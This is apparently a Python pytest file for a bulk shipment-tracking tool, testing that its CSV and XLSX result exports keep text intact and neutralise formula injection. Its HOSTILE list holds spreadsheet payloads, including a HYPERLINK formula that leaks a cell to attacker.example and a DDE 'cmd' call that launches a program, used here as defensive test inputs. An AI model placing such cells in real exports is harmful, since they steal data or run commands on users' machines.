"""results.csv and results.xlsx: the seller's columns plus outcomes, safe to open in Excel."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from agent.bulk.plan import Plan, PlanRow
from agent.bulk.results import OUTCOME_FILLS, RESULT_COLUMNS, ResultRow, about_run, result_rows, write_results
from agent.core.journal.rows import ItemRecord, RunRecord
from agent.core.records import ChangeRequest, Outcome
from agent.core.spreadsheet_cells import FORMULA_STARTS, safe_cell

P1, P2, P3 = "48173252-0033-2", "48173252-0034-1", "48173252-0035-1"
RP = "62009147017544"
COLUMNS = ["货件编号", "新单号", "原因"]


def _rows() -> list[ResultRow]:
    return [
        ResultRow(row_number=2, posting_number=P1, old_tracking="", new_tracking=RP, carrier="russian_post",
                  outcome=Outcome.CHANGED, reason="物流商换单", attempts=1,
                  evidence=[f"{P1}/before.png", f"{P1}/after.png"], notified="sent",
                  original={"货件编号": P1, "新单号": RP, "原因": "物流商换单"}),
        ResultRow(row_number=3, posting_number=P2, new_tracking="=HYPERLINK(\"x\")", outcome=Outcome.REJECTED,
                  reason="Почта: не найдено", original={"货件编号": P2, "新单号": "0012", "原因": ""}),
    ]


def test_csv_starts_with_a_bom_and_rereads_with_input_then_result_columns(tmp_path: Path) -> None:
    csv_path, _ = write_results(tmp_path, COLUMNS, _rows())
    data = csv_path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert table[0] == COLUMNS + list(RESULT_COLUMNS)
    first = dict(zip(table[0], table[1], strict=True))
    assert first["货件编号"] == P1 and first["new_tracking"] == RP and first["outcome"] == "changed"
    assert first["evidence"] == f"{P1}/before.png; {P1}/after.png"
    assert table[2][1] == "0012"  # the seller's cell, leading zeros and all
    assert dict(zip(table[0], table[2], strict=True))["reason"] == "Почта: не найдено"


def test_a_row_should_carry_its_warnings_in_the_csv_and_the_xlsx(tmp_path: Path) -> None:
    resent = "the save was sent 2 times: the connection dropped and the browser re-sent it"
    rows = _rows()
    rows[0].warnings = [resent, "changed since the plan; replaced anyway (overwrite-changed)"]
    csv_path, xlsx_path = write_results(tmp_path, COLUMNS, rows)
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert table[0]["outcome"] == "changed" and table[0]["reason"] == "物流商换单", "the outcome stands"
    assert table[0]["warnings"] == f"{resent}; changed since the plan; replaced anyway (overwrite-changed)"
    assert table[1]["warnings"] == ""
    sheet = openpyxl.load_workbook(xlsx_path).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    assert str(sheet.cell(row=2, column=header.index("warnings") + 1).value).startswith(resent)


def test_result_columns_named_like_input_columns_get_a_suffix(tmp_path: Path) -> None:
    csv_path, _ = write_results(tmp_path, ["posting_number", "new_tracking"], _rows())
    header = next(csv.reader(csv_path.open(encoding="utf-8-sig")))
    assert header[:2] == ["posting_number", "new_tracking"]
    assert "posting_number (result)" in header and len(set(header)) == len(header)


def test_xlsx_keeps_long_numbers_and_posting_numbers_as_text(tmp_path: Path) -> None:
    _, xlsx_path = write_results(tmp_path, COLUMNS, _rows())
    sheet = openpyxl.load_workbook(xlsx_path).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    assert header == COLUMNS + list(RESULT_COLUMNS)
    row = {name: sheet.cell(row=2, column=i + 1) for i, name in enumerate(header)}
    for name in ("新单号", "new_tracking", "货件编号", "posting_number", "attempts"):
        assert row[name].data_type == "s", name
    assert row["new_tracking"].value == RP and row["posting_number"].value == P1
    formula = sheet.cell(row=3, column=header.index("new_tracking") + 1)
    assert formula.data_type == "s" and formula.value == '=HYPERLINK("x")'  # never a live formula


def test_xlsx_has_a_bold_frozen_header(tmp_path: Path) -> None:
    _, xlsx_path = write_results(tmp_path, COLUMNS, _rows())
    sheet = openpyxl.load_workbook(xlsx_path).active
    assert sheet is not None
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])


def _item(seq: int, row_number: int | None, posting: str, outcome: Outcome, **extra: object) -> ItemRecord:
    request = ChangeRequest(posting_number=posting, new_tracking=RP, row_number=row_number, reason="relabel")
    return ItemRecord.model_validate({"run_id": "r", "seq": seq, "row_number": row_number, "posting_number": posting,
                                      "request": request, "new_tracking": RP, "reason": "relabel",
                                      "outcome": outcome, **extra})


def test_result_rows_join_items_with_plan_rows_and_lose_no_row() -> None:
    plan = Plan(columns=COLUMNS, rows=[
        PlanRow(row_number=2, posting_number=P1, new_tracking=RP, original={"货件编号": P1}),
        PlanRow(row_number=3, posting_number="", action="rejected", why="posting number is empty",
                original={"货件编号": ""}),
        PlanRow(row_number=4, posting_number=P3, new_tracking=RP, original={"货件编号": P3}),
        PlanRow(row_number=5, posting_number=P2, new_tracking=RP, original={"货件编号": P2}),
    ])
    items = [_item(0, 2, P1, Outcome.CHANGED, attempts=1),
             _item(1, 4, P3, Outcome.FAILED, error="HTTP 503", attempts=3)]
    rows = result_rows(plan, items)
    assert [(r.row_number, r.outcome) for r in rows] == [
        (2, Outcome.CHANGED), (3, Outcome.REJECTED), (4, Outcome.FAILED), (5, Outcome.PENDING)]
    assert rows[0].original == {"货件编号": P1} and rows[0].reason == "relabel"
    assert rows[1].reason == "posting number is empty"
    assert rows[2].reason == "HTTP 503" and rows[2].attempts == 3
    assert "not reached" in rows[3].reason


def test_result_rows_without_a_plan_come_from_the_journal_alone() -> None:
    rows = result_rows(None, [_item(0, None, P1, Outcome.UNCHANGED)])
    assert [(r.posting_number, r.outcome, r.original) for r in rows] == [(P1, Outcome.UNCHANGED, {})]


HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_csv_should_neutralise_every_cell_a_spreadsheet_would_run_as_a_formula(tmp_path: Path, cell: str) -> None:
    row = ResultRow(row_number=2, posting_number=P1, new_tracking=RP, outcome=Outcome.REJECTED, reason=cell,
                    original={"货件编号": P1, "新单号": cell, "原因": cell})
    csv_path, xlsx_path = write_results(tmp_path, [*COLUMNS, cell], [row])
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    cells = [value for line in table for value in line]
    assert not any(value.startswith(FORMULA_STARTS) for value in cells), cells
    record = dict(zip(table[0], table[1], strict=True))
    assert record["reason"] == "'" + cell and record["原因"] == "'" + cell  # the text survives, shown as text
    sheet = openpyxl.load_workbook(xlsx_path)["results"]
    reason = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("reason") + 1)
    # XLSX: stored as text, never a formula (XML turns a leading carriage return into a line feed)
    assert reason.data_type == "s" and reason.value.lstrip("\r\n") == cell.lstrip("\r\n")


def test_safe_cell_should_leave_ordinary_text_and_numbers_alone() -> None:
    for text in ("RR473124829GB", "62009147017544", "物流商换单", "a=b", "", "0012"):
        assert safe_cell(text) == text
    assert safe_cell(None) == ""


def test_xlsx_should_colour_outcomes_and_sum_them_up_on_a_summary_sheet(tmp_path: Path) -> None:
    _, xlsx_path = write_results(tmp_path, COLUMNS, _rows())
    workbook = openpyxl.load_workbook(xlsx_path)
    assert workbook.sheetnames == ["results", "summary"]
    sheet = workbook["results"]
    column = [c.value for c in sheet[1]].index("outcome") + 1
    fills = {sheet.cell(row=r, column=column).value: sheet.cell(row=r, column=column).fill.fgColor.rgb
             for r in (2, 3)}
    assert fills["changed"].endswith(OUTCOME_FILLS[Outcome.CHANGED])
    assert fills["rejected"].endswith(OUTCOME_FILLS[Outcome.REJECTED])
    assert sheet.auto_filter.ref == sheet.dimensions
    summary = {row[0]: row[1] for row in workbook["summary"].iter_rows(min_row=2, values_only=True)}
    assert summary == {"changed": 1, "unchanged": 0, "rejected": 1, "failed": 0, "pending": 0, "total": 2}


def test_xlsx_summary_should_name_who_planned_and_approved_the_run_with_their_keys(tmp_path: Path) -> None:
    run = RunRecord(id="r", kind="bulk", started_at="2026-11-26T07:30:00+00:00", approved_by="boris",
                    approver_key="SHA256:BorisKey", planned_by="anna", planner_key="SHA256:AnnaKey")

    _, xlsx_path = write_results(tmp_path, COLUMNS, _rows(), about_run(run))

    rows = list(openpyxl.load_workbook(xlsx_path)["summary"].iter_rows(min_row=9, values_only=True))
    assert rows == [("planned by", "anna"), ("planner's key", "SHA256:AnnaKey"), ("approved by", "boris"),
                    ("approver's key", "SHA256:BorisKey")]
    assert about_run(run.model_copy(update={"approver_key": "", "planner_key": ""})) == [
        ("planned by", "anna"), ("approved by", "boris")]
